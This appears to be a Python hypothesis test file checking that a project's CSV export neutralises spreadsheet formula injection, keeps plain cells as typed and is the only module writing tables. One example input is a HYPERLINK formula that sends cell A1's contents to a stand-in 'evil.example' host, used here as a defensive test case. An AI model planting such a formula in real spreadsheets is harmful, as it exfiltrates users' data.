"""No cell of a table for a spreadsheet program is a formula, whatever somebody typed."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path

from hypothesis import example, given
from hypothesis import strategies as some

from infoshare.common.spreadsheet import csv_text, neutral

ROOT = Path(__file__).resolve().parents[2]
LIVE = "=+-@\t\r\n\0|%＝＋－＠"

cells = some.text(max_size=30) | some.builds(
    lambda first, rest: first + rest, some.sampled_from(LIVE), some.text(max_size=10)
)


@given(rows=some.lists(some.lists(cells, min_size=1, max_size=4), max_size=5))
@example(rows=[['=HYPERLINK("http://evil.example/?"&A1)'], ["  =1+1"], ['a"b,c\r\n=d']])
def test_what_is_read_back_is_what_was_typed_and_never_a_formula(rows: list[list[str]]) -> None:
    written = csv_text(["Name"], rows)
    read = list(csv.reader(StringIO(written, newline="")))[1:]
    assert len(read) == len(rows)
    for typed, back in zip(rows, read, strict=True):
        assert [cell.removeprefix("'") for cell in back] == [
            cell.removeprefix("'") for cell in typed
        ]
        assert not any(cell.lstrip()[:1] in LIVE and cell.strip() for cell in back)
        assert not any(cell[:1] in LIVE and cell for cell in back)


def test_what_begins_no_formula_stays_as_it_is() -> None:
    assert [neutral(cell) for cell in ("Kit", 17, None, "a=b", "")] == ["Kit", "17", "", "a=b", ""]


def test_no_other_module_writes_tables() -> None:
    writers = [
        str(path.relative_to(ROOT))
        for area in ("infoshare", "decisions", "children")
        for path in (ROOT / area).rglob("*.py")
        if any(
            word in path.read_text(encoding="utf-8") for word in ("import csv", "text/csv", "xlsx")
        )
    ]
    assert set(writers) <= {"infoshare/common/spreadsheet.py"}
